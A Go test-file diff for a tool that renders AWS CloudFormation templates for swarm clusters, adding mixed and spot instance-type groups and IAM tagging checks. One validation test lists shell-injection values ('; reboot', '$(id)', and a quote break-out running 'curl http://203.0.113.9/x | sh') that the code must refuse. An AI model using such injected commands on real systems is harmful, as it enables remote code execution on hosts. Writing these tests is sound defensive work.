@@ -5,6 +5,7 @@ import (
 	"encoding/json"
 	"errors"
 	"flag"
+	"fmt"
 	"maps"
 	"os"
 	"path/filepath"
@@ -66,19 +67,32 @@ func variants() []variant {
 			VpcID: testJoin.VpcId, SubnetIDs: testJoin.SubnetIds, Managers: intp(5),
 		}},
 		{name: "group-default", cluster: "prod", join: testJoin, group: &spec.Group{
-			Name: "c5-agents", InstanceType: "c5.xlarge", Count: intp(2), Min: intp(2), Max: intp(4), VolumeSize: intp(30),
+			Name: "c5-agents", InstanceType: spec.InstanceTypes{"c5.xlarge"}, Count: intp(2), Min: intp(2), Max: intp(4), VolumeSize: intp(30),
 		}},
 		// "a b" is no valid label (spec refuses it); it shows that render
 		// quotes whatever it is given for the shell.
 		{name: "group-labels-own-subnets-arm", cluster: "prod", join: testJoin, group: &spec.Group{
-			Name: "r7g-agents", InstanceType: "r7g.large", Count: intp(3), Min: intp(1), Max: intp(3), VolumeSize: intp(100),
+			Name: "r7g-agents", InstanceType: spec.InstanceTypes{"r7g.large"}, Count: intp(3), Min: intp(1), Max: intp(3), VolumeSize: intp(100),
 			Labels:    spec.Labels{"instancetype": "r7g", "role": "worker", "zone": "a b"},
 			SubnetIDs: []string{"subnet-0000000000000000c"}, SSHCIDR: "198.51.100.7/32",
 			RollingUpdate: spec.RollingUpdate{MaxBatch: intp(2), MinInService: intp(1)},
 			ImageID:       "ami-0123456789abcdef0", KeyName: "ops",
 		}},
 		{name: "group-offline", cluster: "prod", group: &spec.Group{
-			Name: "c5-agents", InstanceType: "c5.xlarge", Count: intp(1), Min: intp(1), Max: intp(1), VolumeSize: intp(30),
+			Name: "c5-agents", InstanceType: spec.InstanceTypes{"c5.xlarge"}, Count: intp(1), Min: intp(1), Max: intp(1), VolumeSize: intp(30),
+		}},
+		// Mixed groups: several types on demand, one type on spot, and
+		// several Graviton types on spot with an on-demand share.
+		{name: "group-multi-type", cluster: "prod", join: testJoin, group: &spec.Group{
+			Name: "general", InstanceType: spec.InstanceTypes{"m5.large", "m5a.large", "m6i.large"}, Count: intp(3),
+		}},
+		{name: "group-spot", cluster: "prod", join: testJoin, group: &spec.Group{
+			Name: "batch", InstanceType: spec.InstanceTypes{"c5.large"}, Spot: true, Count: intp(4),
+		}},
+		{name: "group-spot-mixed", cluster: "prod", join: testJoin, group: &spec.Group{
+			Name: "arm-spot", InstanceType: spec.InstanceTypes{"m7g.large", "m6g.large", "c7g.xlarge"}, Spot: true,
+			OnDemandBase: intp(1), OnDemandPercent: intp(25), SpotAllocation: spec.SpotCapacityOptimized,
+			Count: intp(6), Max: intp(12), Labels: spec.Labels{"role": "batch"},
 		}},
 	}
 }
@@ -258,9 +272,43 @@ func TestJoinFromOutputs(t *testing.T) {
 		t.Error("ContractOlder")
 	}
 
-	j, err = JoinFromOutputs(mergeMap(testJoin.Outputs(), map[string]string{"SubnetIds": "subnet-1, subnet-2,"}))
-	if err != nil || !slices.Equal(j.SubnetIds, []string{"subnet-1", "subnet-2"}) {
+	j, err = JoinFromOutputs(mergeMap(testJoin.Outputs(), map[string]string{"SubnetIds": "subnet-0aaa1111, subnet-0bbb2222,"}))
+	if err != nil || !slices.Equal(j.SubnetIds, []string{"subnet-0aaa1111", "subnet-0bbb2222"}) {
 		t.Errorf("SubnetIds with spaces: %q, %v", j.SubnetIds, err)
+	}
+}
+
+// A join value that does not have the shape of what it names is refused,
+// naming the output: it would reach root shell code on every node.
+func TestJoinFromOutputsRefusesTamperedValues(t *testing.T) {
+	for _, tc := range []struct{ output, value string }{
+		{"ClusterName", "prod; reboot"},
+		{"BucketName", "Prod_Bucket"},
+		{"BucketName", "b$(id)"},
+		{"ManagersKey", "join/swarm/managers'; curl http://203.0.113.9/x | sh; : '"},
+		{"ManagersKey", "join/swarm/$(id)"},
+		{"ControlSecurityGroupId", "sg-0c0c0c0c `id`"},
+		{"AgentSecurityGroupId", "sg-xyz"},
+		{"AgentInstanceProfile", "arn:aws:iam::123456789012:instance-profile/x'$(id)"},
+		{"AgentInstanceProfile", "prod-agents"},
+		{"VpcId", "vpc-0123\n"},
+		{"SubnetIds", "subnet-0aaa1111,subnet-0bbb2222 && reboot"},
+	} {
+		outs := mergeMap(testJoin.Outputs(), map[string]string{tc.output: tc.value})
+		_, err := JoinFromOutputs(outs)
+		var oe *OutputError
+		if !errors.As(err, &oe) || oe.Output != tc.output || !strings.Contains(err.Error(), "core output "+tc.output+" is ") {
+			t.Errorf("%s = %q: %v, want an *OutputError naming it", tc.output, tc.value, err)
+		}
+	}
+	for _, ok := range []map[string]string{
+		{"AgentInstanceProfile": "arn:aws-cn:iam::123456789012:instance-profile/path/to/p+1"},
+		{"BucketName": "core-bucket-0a1b2c.d"},
+		{"ControlSecurityGroupId": "sg-12345678"},
+	} {
+		if _, err := JoinFromOutputs(mergeMap(testJoin.Outputs(), ok)); err != nil {
+			t.Errorf("%v refused: %v", ok, err)
+		}
 	}
 }
 
@@ -364,7 +412,8 @@ func TestCoreContent(t *testing.T) {
 			}
 
 			// Agents may only read the join material and the swarm's
-			// status.
+			// status, and tag the cluster's instances with what they are.
+			tags := 0
 			for _, s := range list(dig(res, "AgentRole", "Properties", "Policies")) {
 				for _, st := range list(dig(s, "PolicyDocument", "Statement")) {
 					st := obj(st)
@@ -377,10 +426,21 @@ func TestCoreContent(t *testing.T) {
 						if !jsonEqual(dig(st, "Condition", "StringLike", "s3:prefix"), []any{"join/*", "status/swarm.json"}) {
 							t.Errorf("agents list beyond join/: %v", st["Condition"])
 						}
+					case "ec2:CreateTags":
+						tags++
+						if dig(st, "Resource", "Fn::Sub") != "arn:${AWS::Partition}:ec2:${AWS::Region}:${AWS::AccountId}:instance/*" ||
+							dig(st, "Condition", "StringEquals", "aws:ResourceTag/"+names.TagCluster) != v.cluster ||
+							!jsonEqual(dig(st, "Condition", "ForAllValues:StringEquals", "aws:TagKeys"), []any{names.TagInstanceType, names.TagLifecycle, names.TagZone}) ||
+							len(obj(st["Condition"])) != 2 {
+							t.Errorf("agents tag beyond their cluster's instances and what a node is: %v", st)
+						}
 					default:
 						t.Errorf("agents may %v", act)
 					}
 				}
+			}
+			if tags != 1 {
+				t.Errorf("%d statements let agents tag their instances, want 1", tags)
 			}
 
 			if _, ok := res[names.ResourceControlInstance]; ok {
@@ -448,10 +508,7 @@ func TestGroupContent(t *testing.T) {
 			}
 
 			asg := obj(res["AutoScalingGroup"])
-			if dig(asg, "Properties", "LaunchTemplate", "LaunchTemplateId", "Ref") != "LaunchTemplate" ||
-				!jsonEqual(dig(asg, "Properties", "LaunchTemplate", "Version", "Fn::GetAtt"), []any{"LaunchTemplate", "LatestVersionNumber"}) {
-				t.Errorf("ASG launch template %v", dig(asg, "Properties", "LaunchTemplate"))
-			}
+			checkPurchase(t, doc, r, g)
 			if dig(asg, "CreationPolicy", "ResourceSignal", "Timeout") != "PT10M" ||
 				dig(asg, "CreationPolicy", "ResourceSignal", "Count", "Ref") != "DesiredCapacity" {
 				t.Errorf("ASG creation policy %v", asg["CreationPolicy"])
@@ -539,6 +596,76 @@ func TestGroupContent(t *testing.T) {
 				t.Errorf("SubnetIds = %q, want %q", r.Parameters["SubnetIds"], wantSubnetParam)
 			}
 		})
+	}
+}
+
+// checkPurchase asserts how a group's nodes are bought: a group of one
+// type on demand names its launch template alone, as before groups could
+// be mixed; several types or spot put a mixed instances policy over the
+// launch template, one override per type, in the order given, and spot
+// adds the on-demand share, the allocation strategy and capacity
+// rebalancing.
+func checkPurchase(t *testing.T, doc map[string]any, r *Rendered, g *spec.Group) {
+	t.Helper()
+	params := obj(doc["Parameters"])
+	asg := obj(dig(doc, "Resources", "AutoScalingGroup", "Properties"))
+	ltSpec := asg["LaunchTemplate"]
+	mip := obj(asg["MixedInstancesPolicy"])
+	if mip != nil {
+		ltSpec = dig(mip, "LaunchTemplate", "LaunchTemplateSpecification")
+	}
+	if dig(ltSpec, "LaunchTemplateId", "Ref") != "LaunchTemplate" || !jsonEqual(dig(ltSpec, "Version", "Fn::GetAtt"), []any{"LaunchTemplate", "LatestVersionNumber"}) {
+		t.Errorf("ASG launch template %v", ltSpec)
+	}
+	if r.Parameters["InstanceType"] != g.InstanceType.String() {
+		t.Errorf("InstanceType = %q, want %q", r.Parameters["InstanceType"], g.InstanceType.String())
+	}
+	spotParams := []string{"OnDemandBaseCapacity", "OnDemandPercentageAboveBaseCapacity", "SpotAllocationStrategy"}
+	ltType := dig(doc, "Resources", "LaunchTemplate", "Properties", "LaunchTemplateData", "InstanceType")
+	if !g.Mixed() {
+		if mip != nil || asg["CapacityRebalance"] != nil || dig(params, "InstanceType", "Type") != "String" || dig(ltType, "Ref") != "InstanceType" {
+			t.Errorf("one type on demand: mixed policy %v, rebalance %v, parameter %v, launch template type %v", mip, asg["CapacityRebalance"], params["InstanceType"], ltType)
+		}
+		for _, p := range spotParams {
+			if params[p] != nil {
+				t.Errorf("one type on demand: parameter %s", p)
+			}
+		}
+		return
+	}
+	if asg["LaunchTemplate"] != nil || dig(params, "InstanceType", "Type") != "CommaDelimitedList" || !jsonEqual(dig(ltType, "Fn::Select"), []any{0, map[string]any{"Ref": "InstanceType"}}) {
+		t.Errorf("mixed group: launch template %v, parameter %v, launch template type %v", asg["LaunchTemplate"], params["InstanceType"], ltType)
+	}
+	overrides := list(dig(mip, "LaunchTemplate", "Overrides"))
+	if len(overrides) != len(g.InstanceType) {
+		t.Errorf("%d overrides for %d types", len(overrides), len(g.InstanceType))
+	}
+	for i, o := range overrides {
+		if !jsonEqual(dig(o, "InstanceType", "Fn::Select"), []any{i, map[string]any{"Ref": "InstanceType"}}) {
+			t.Errorf("override %d: %v", i, o)
+		}
+	}
+	dist := obj(mip["InstancesDistribution"])
+	if dist["OnDemandAllocationStrategy"] != "prioritized" {
+		t.Errorf("on-demand allocation %v, want the types' order", dist["OnDemandAllocationStrategy"])
+	}
+	if !g.Spot {
+		if !jsonEqual(dist, map[string]any{"OnDemandAllocationStrategy": "prioritized", "OnDemandBaseCapacity": 0, "OnDemandPercentageAboveBaseCapacity": 100}) || asg["CapacityRebalance"] != nil {
+			t.Errorf("several types on demand: distribution %v, rebalance %v", dist, asg["CapacityRebalance"])
+		}
+		return
+	}
+	for _, p := range spotParams {
+		if params[p] == nil || dig(dist, p, "Ref") != p || r.Parameters[p] == "" {
+			t.Errorf("spot: %s declared %v, distribution %v, value %q", p, params[p], dist[p], r.Parameters[p])
+		}
+	}
+	if r.Parameters["OnDemandBaseCapacity"] != fmt.Sprint(g.OnDemandBaseCapacity()) || r.Parameters["OnDemandPercentageAboveBaseCapacity"] != fmt.Sprint(g.OnDemandPercentage()) ||
+		r.Parameters["SpotAllocationStrategy"] != g.SpotAllocationStrategy() {
+		t.Errorf("spot parameters %v", r.Parameters)
+	}
+	if asg["CapacityRebalance"] != true {
+		t.Error("spot without capacity rebalancing")
 	}
 }
 
@@ -789,7 +916,7 @@ func TestSubLiteral(t *testing.T) {
 	// Labels go to the node configuration, which is no Fn::Sub string: they
 	// stay literal there, quoted for the shell.
 	r, err := Group("prod", spec.Group{
-		Name: "g", InstanceType: "t3.small", Count: intp(1), Min: intp(1), Max: intp(2), VolumeSize: intp(8),
+		Name: "g", InstanceType: spec.InstanceTypes{"t3.small"}, Count: intp(1), Min: intp(1), Max: intp(2), VolumeSize: intp(8),
 		Labels: spec.Labels{"k": "${AWS::AccountId}'x"},
 	}, Join{}, "1")
 	if err != nil {
